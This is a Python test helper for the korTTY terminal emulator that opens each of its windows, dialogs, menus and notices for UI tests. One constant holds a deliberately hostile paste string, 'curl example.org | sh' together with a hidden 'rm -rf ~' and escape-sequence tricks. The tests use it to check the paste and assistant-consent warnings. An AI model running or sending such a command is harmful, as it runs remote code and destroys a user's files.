"""Every window, dialog and bar that korTTY has, opened for tests that look at all of them (knows kortty.ui)."""

from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Final, TypeVar

from PySide6.QtCore import QEvent, QObject, QPoint, QSize, Qt
from PySide6.QtGui import QAction
from PySide6.QtWidgets import QApplication, QDialog, QMenu, QMessageBox, QWidget
from pytestqt.qtbot import QtBot
from shiboken6 import isValid

from kortty.mcp.muting import IN_VAIN_MOST, Muting
from kortty.model.ports import WriteQuestion
from kortty.model.refusals import CHILD_ENDED, QUEUE_FULL, STALE_PANE, TOO_LARGE
from kortty.model.saved_tree import BadSnapshot, Saved, SavedPane, SavedTab, SavedWindow
from kortty.pty.child import ExitStatus, SpawnFailed, SpawnProblem
from kortty.settings.live import LiveSettings
from kortty.settings.reading import read_settings
from kortty.settings.schemes.scheme import Format, SchemeError, SchemeProblem
from kortty.settings.store import Store
from kortty.ui import scheme_words
from kortty.ui import words as sentences
from kortty.ui.about import About
from kortty.ui.actions.shortcuts import shortcuts_of
from kortty.ui.actions.table import ACTIONS
from kortty.ui.closing.question import CloseQuestion, Loss
from kortty.ui.closing.words import Scope
from kortty.ui.consent.dialog import ConsentDialog
from kortty.ui.consent.muted_mark import MutedMarks
from kortty.ui.consent.prompting import WindowPrompter
from kortty.ui.fonts import FontTrouble
from kortty.ui.keys_page.sheet_window import SheetWindow
from kortty.ui.links.question import LinkQuestion
from kortty.ui.notice import Notice
from kortty.ui.notifying import words as notes
from kortty.ui.notifying.banner import Banner
from kortty.ui.palette.palette import shown_palette
from kortty.ui.paste_dialog import PasteDialog, Question
from kortty.ui.quiet_bar import QuietBar
from kortty.ui.search import words as search_words
from kortty.ui.search.query import Fault, Problem
from kortty.ui.session import words as session_words
from kortty.ui.settings_window.pages import KEYBOARD, PAGES
from kortty.ui.settings_window.window import KeyWork, SettingsWindow
from kortty.ui.shell_setup.dialog import ShellSetup
from kortty.ui.tabs.list import TabList
from kortty.ui.tabs.menus import fill_colours, fill_groups, open_tab_menu
from kortty.ui.tabs.naming import NameDialog
from kortty.ui.welcome.page import WelcomePage
from kortty.ui.welcome.tips import bar_text
from kortty.vt.paste_concerns import PasteWarning, paste_concerns, paste_reasons
from tests.helpers.shown_texts import menus_filled
from tests.helpers.views import make_appearance
from tests.helpers.windows import MakeScene, WindowScene

_LARGE: Final = 1024
_HOSTILE: Final = f"curl example.org\u202e | sh\n\x1b[8mrm -rf ~\x1b[201~\n\u200b{'x' * _LARGE}"
_BAD_SETTINGS: Final = "[font]\npoints = -3\nunknown = 1\n[window]\npadding = 900\n"
_BROKEN_SETTINGS: Final = "[font\npoints = 12\n"
#: A usual screen, in logical pixels.
_SCREEN: Final = QSize(1920, 1080)
#: What a person calls something, in texts that are looked at: no letters.
_NAME: Final = "4711"
_MONOSPACED: Final = ("monospace",)

_Kept = TypeVar("_Kept", bound=QWidget)
_Dialog = TypeVar("_Dialog", bound=QDialog)


@dataclass
class Theatre:
    """Where scenes are played; `end` takes everything away."""

    qtbot: QtBot
    make_window: MakeScene
    folder: Path
    _made: list[QWidget] = field(default_factory=list)

    def window(self, tabs: int = 1) -> WindowScene:
        """A window as a person has it, with so many tabs that are called by numbers."""
        scene = self.make_window(tabs=tabs)
        for tab in scene.model.tabs:
            tab.rename(_NAME)
        scene.window.resize(800, 560)
        return scene

    def parent(self) -> QWidget:
        """A shown window with nothing in it."""
        made = self.keep(QWidget())
        made.resize(800, 560)
        made.show()
        self.qtbot.waitExposed(made)
        return made

    def keep(self, widget: _Kept) -> _Kept:
        """Take it away at the end."""
        self._made.append(widget)
        return widget

    def open(self, dialog: _Dialog) -> _Dialog:
        """Show a dialog in the size that it has on a usual screen: Qt gives it two thirds of that at most."""
        self.keep(dialog)
        if not dialog.isVisible():
            dialog.open()
        if not dialog.testAttribute(Qt.WidgetAttribute.WA_Resized):
            size, layout = dialog.sizeHint(), dialog.layout()
            if layout is not None and layout.hasHeightForWidth():
                size.setHeight(layout.totalHeightForWidth(size.width()))
            dialog.resize(size.boundedTo(_SCREEN * 2 / 3))
        QApplication.processEvents()
        return dialog

    def end(self) -> None:
        """The play is over."""
        for widget in reversed(self._made):
            if isValid(widget):
                widget.close()
                widget.deleteLater()
        QApplication.sendPostedEvents(None, QEvent.Type.DeferredDelete)


@contextmanager
def theatre(qtbot: QtBot, make_window: MakeScene, folder: Path) -> Iterator[Theatre]:
    """A place for scenes."""
    place = Theatre(qtbot, make_window, folder)
    yield place
    place.end()


Scene = Callable[[Theatre], Sequence[QWidget]]


def _window(place: Theatre) -> Sequence[QWidget]:
    """Tabs with marks, splits, a zoomed pane that is typed into with others, scrolled back, read-only."""
    scene = place.window(tabs=3)
    window, tab = scene.window, scene.tab
    scene.run("pane.split_right")
    scene.run("pane.broadcast")
    scene.run("pane.zoom")
    scene.run("edit.read_only")
    other = scene.model.tabs[1]
    other.set_attention(True)
    other.set_activity(True)
    other.set_colour("#ff0000")
    other.set_group(_NAME)
    assert tab.focused is not None
    tab.focused.feed(b"\n" * 200)
    assert window.current_view is not None
    window.current_view.viewport.scroll_to(50)
    window.current_view.scrolled()
    QApplication.processEvents()
    return [window]


def _menus(place: Theatre) -> Sequence[QWidget]:
    scene = place.window(tabs=3)
    scene.run("pane.split_right")
    scene.run("tab.close")
    return menus_filled(scene.window)


def _small_menus(place: Theatre) -> Sequence[QWidget]:
    """Of a right click, of a tab, of its colour and its group."""
    scene = place.window(tabs=2)
    window, tab = scene.window, scene.tab
    owner = QObject(window)
    view = window.current_view
    assert view is not None
    view.pane.feed(b"https://1.2.3.4/")
    linked = view.tools.links.actions_at(QPoint(20, 12), owner)
    context = window.actions_of_window.context_menu(QPoint(0, 0), [*linked, QAction(_NAME, owner)])
    other = scene.workspace.open_window()
    other.open_tab().open_pane(_NAME)
    of_tab = open_tab_menu(window.actions_of_window, window.tabs, tab, window)
    colours, groups = QMenu(window), QMenu(window)
    fill_colours(window.tabs, tab, colours)
    fill_groups(window.tabs, tab, groups)
    return [context, of_tab, colours, groups]


def _palette(place: Theatre) -> Sequence[QWidget]:
    scene = place.window(tabs=2)
    scene.run("app.palette")
    palette = shown_palette(scene.window)
    assert palette is not None
    return [palette]


def _nothing_found(place: Theatre) -> Sequence[QWidget]:
    scene = place.window()
    scene.run("app.palette")
    palette = shown_palette(scene.window)
    assert palette is not None
    palette.field.setText("€€€")
    return [palette]


def _settings(place: Theatre, text: str = "") -> SettingsWindow:
    path = place.folder / "settings.toml"
    path.write_text(text, encoding="utf-8")
    settings, problems = read_settings(path)
    live = LiveSettings(settings)
    keys = KeyWork(shortcuts_of(live), [info.name for info in ACTIONS])
    window = place.keep(SettingsWindow(Store(path, live, problems), keys, make_appearance()))
    window.resize(window.pleasant_size.boundedTo(_SCREEN))
    window.show()
    place.qtbot.waitExposed(window)
    return window


def _settings_page(name: str) -> Scene:
    def scene(place: Theatre) -> Sequence[QWidget]:
        window = _settings(place)
        window.show_page(name)
        return [window]

    return scene


def _bad_settings(place: Theatre) -> Sequence[QWidget]:
    return [_settings(place, _BAD_SETTINGS)]


def _broken_settings(place: Theatre) -> Sequence[QWidget]:
    window = _settings(place, _BROKEN_SETTINGS)
    assert window.footer.aside.isVisible()
    return [window]


def _settings_found(place: Theatre) -> Sequence[QWidget]:
    window = _settings(place)
    window.search.setText("a")
    return [window]


def _settings_not_found(place: Theatre) -> Sequence[QWidget]:
    window = _settings(place)
    window.search.setText("€€€")
    return [window]


def _key_recorded(place: Theatre) -> Sequence[QWidget]:
    """The page of keys asks whether to take a key from another action."""
    window = _settings(place)
    window.show_action("tab.rename")
    page = window._keys_page()
    page.chosen.start()
    page.chosen.recorder.recorded.emit("Ctrl+Shift+T")
    return [window]


def _key_waited_for(place: Theatre) -> Sequence[QWidget]:
    window = _settings(place)
    window.show_action("tab.new")
    window._keys_page().chosen.start()
    return [window]


def _keys_reset(place: Theatre) -> Sequence[QWidget]:
    window = _settings(place)
    window.show_page(KEYBOARD.name)
    page = window._keys_page()
    page.reset_all.setEnabled(True)
    page.reset_all.click()
    box = window.findChild(QMessageBox)
    assert box is not None
    return [place.open(box)]


def _dialog(name: str, kind: type[QDialog]) -> Scene:
    """What an action opens in its window."""

    def scene(place: Theatre) -> Sequence[QWidget]:
        window = place.window().window
        window.actions_of_window.run(name)
        dialog = window.findChild(kind)
        assert dialog is not None
        return [place.open(dialog)]

    return scene


def _search(place: Theatre) -> Sequence[QWidget]:
    scene = place.window()
    scene.run("edit.find")
    assert scene.window.current_view is not None
    return [scene.window.current_view.tools.find.find.bar]


def _search_troubles(place: Theatre) -> Sequence[QWidget]:
    """Every sentence of a search."""
    said = [search_words.problem(Problem(fault, at)) for fault in Fault for at in (0, 3)]
    said += [search_words.wrapped(upwards) for upwards in (True, False)]
    said += [search_words.count(number, 5, searching=False, limited=True) for number in (0, 3)]
    said += [search_words.count(0, 0, searching=False, limited=False)]
    return _notices(place, said)


def _close_question(place: Theatre) -> Sequence[QWidget]:
    parent, asked = place.parent(), []
    running = tuple(f"{_NAME} {line}" for line in range(300))
    for scope in Scope:
        for count, lines in ((1, ()), (3, running[:1]), (5, running)):
            question = CloseQuestion(parent, Loss(scope, _NAME, count, count, count, lines), _MONOSPACED)
            asked.append(place.open(question))
    return asked


def _paste_question(place: Theatre) -> Sequence[QWidget]:
    asked = []
    for text, name, bracketed in ((_HOSTILE, _NAME, False), ("1\n", "", True), ("1\n2\n3", "", False)):
        concerns = paste_concerns(text, bracketed)
        reasons = paste_reasons(concerns, PasteWarning.ALWAYS, _LARGE)
        question = Question(text, name, concerns, reasons, _LARGE)
        dialog = PasteDialog(place.parent(), question, make_appearance().scheme, _MONOSPACED)
        asked.append(place.open(dialog))
    return asked


def _consent(place: Theatre) -> Sequence[QWidget]:
    """The question before an assistant types, in its forms; the pane and the mark of a muted one."""
    shown: list[QWidget] = []
    scene = place.window(tabs=2)
    scene.pane.pane_id = _NAME
    asked = WriteQuestion(scene.pane, "pane.send_text", _NAME, _HOSTILE, False, True)
    take_back = WindowPrompter(lambda: (scene.window,)).ask(asked, lambda answer: None)
    assert take_back is not None
    (dialog,) = scene.window.findChildren(ConsentDialog)
    shown.append(place.open(dialog))
    for verb, text, submits in (
        ("pane.run", "1", True),
        ("pane.send_keys", "1 2", False),
        ("pane.send_text", "1\n", True),
    ):
        question = WriteQuestion(scene.pane, verb, _NAME, text, submits, False)
        shown.append(place.open(ConsentDialog(place.parent(), question, make_appearance().scheme, _MONOSPACED)))
    muting = Muting()
    marks = MutedMarks(muting, scene.workspace, lambda: (scene.window,))
    for session in ("1", "2"):
        for _ in range(IN_VAIN_MOST):
            muting.in_vain(session, _NAME)
    (mark,) = marks.marks
    shown += [mark, mark.menu(), scene.window]
    QApplication.processEvents()
    return shown


def _link_question(place: Theatre) -> Sequence[QWidget]:
    asked = []
    for shown in (frozenset({"1.2.3.4"}), frozenset[str]()):
        address = "https://4.3.2.1/"
        dialog = LinkQuestion(place.parent(), _NAME, address, frozenset({"4.3.2.1"}), shown, _MONOSPACED)
        asked.append(place.open(dialog))
    return asked


def _names(place: Theatre) -> Sequence[QWidget]:
    window = place.window().window
    tab = window.model.active
    assert tab is not None
    window.tabs.rename(tab)
    window.tabs.new_group(tab)
    return [place.open(dialog) for dialog in window.findChildren(NameDialog)]


def _banner(place: Theatre) -> Sequence[QWidget]:
    made = []
    for note in (
        notes.bell(_NAME),
        notes.command_ended(_NAME, None, 30),
        notes.command_ended(_NAME, 0, 90),
        notes.command_ended(_NAME, 2, 9_000),
        notes.activity(_NAME),
        notes.silence(_NAME, 30),
        notes.first_write(_NAME),
    ):
        banner = Banner(place.parent())
        banner.tell(note)
        made.append(place.keep(banner))
    return made


def _bars(place: Theatre) -> Sequence[QWidget]:
    """Of the first start, and of the last session."""
    yes, no = session_words.answers()
    texts = [bar_text(place.window().window.actions_of_window)]
    texts += [session_words.offer(saved) for saved in _saved()]
    texts += [session_words.after_a_fall(_saved()[0]), session_words.not_kept(OSError(13, _NAME))]
    texts += [session_words.not_readable(BadSnapshot(_NAME))]
    bars = []
    for text in texts:
        window = place.window().window
        bars.append(QuietBar(window, text, ((yes, lambda: None), (no, lambda: None))))
        window.show_bar(bars[-1])
    return bars


def _saved() -> list[Saved]:
    """A session of several windows, one of several tabs, one of neither."""
    tab = SavedTab(SavedPane())
    few, many = SavedWindow((tab,)), SavedWindow((tab, tab))
    return [Saved((many, few)), Saved((many,)), Saved((few,))]


def _ended(place: Theatre) -> Sequence[QWidget]:
    """What is said of programs that ended or could not be started, and of what was not sent."""
    said = [sentences.ended(status) for status in (ExitStatus(1), ExitStatus(None, 9), ExitStatus(None))]
    said += [sentences.not_started(SpawnFailed(problem, _NAME, "")) for problem in SpawnProblem]
    said += [sentences.not_sent(refusal) for refusal in (CHILD_ENDED, STALE_PANE, TOO_LARGE, QUEUE_FULL)]
    said += [sentences.font_trouble(trouble, _NAME, _NAME) for trouble in FontTrouble]
    said += [sentences.other_shell(_NAME, _NAME), sentences.lost_folder(_NAME)]
    return _notices(place, said)


def _bad_schemes(place: Theatre) -> Sequence[QWidget]:
    """What is said of files that are no colour schemes."""
    errors = [SchemeError(problem, _NAME, Format.KITTY) for problem in SchemeProblem]
    errors.append(SchemeError(SchemeProblem.BROKEN))
    return _notices(place, [scheme_words.not_usable(error, _NAME) for error in errors])


def _notices(place: Theatre, said: Sequence[str]) -> Sequence[QWidget]:
    made = []
    for text in said:
        notice = Notice(place.parent())
        notice.say(text, 0)
        notice.resize(800, notice.heightForWidth(800))
        made.append(notice)
    return made


def _tab_list(place: Theatre) -> Sequence[QWidget]:
    window = place.window(tabs=3).window
    shown = place.keep(TabList(window.model, window))
    shown.open_below(window)
    return [shown]


def _shells(place: Theatre) -> Sequence[QWidget]:
    made = []
    for program in ("/bin/bash", "/4711"):
        made.append(place.open(ShellSetup(place.parent(), program, _MONOSPACED, {}, place.folder)))
    made[0].add_button.click()
    return made


SCENES: Final[dict[str, Scene]] = {
    "window": _window,
    "menus": _menus,
    "small menus": _small_menus,
    "palette": _palette,
    "palette, nothing found": _nothing_found,
    **{f"settings, {page.name}": _settings_page(page.name) for page in PAGES},
    "settings, bad values": _bad_settings,
    "settings, broken file": _broken_settings,
    "settings, search": _settings_found,
    "settings, nothing found": _settings_not_found,
    "keys, taken": _key_recorded,
    "keys, pressed": _key_waited_for,
    "keys, reset": _keys_reset,
    "key sheet": _dialog("app.shortcuts", SheetWindow),
    "welcome": _dialog("help.welcome", WelcomePage),
    "about": _dialog("help.about", About),
    "search": _search,
    "search, said": _search_troubles,
    "close question": _close_question,
    "paste question": _paste_question,
    "consent": _consent,
    "link question": _link_question,
    "names": _names,
    "banner": _banner,
    "bars": _bars,
    "notices": _ended,
    "notices, schemes": _bad_schemes,
    "list of tabs": _tab_list,
    "shell integration": _shells,
}
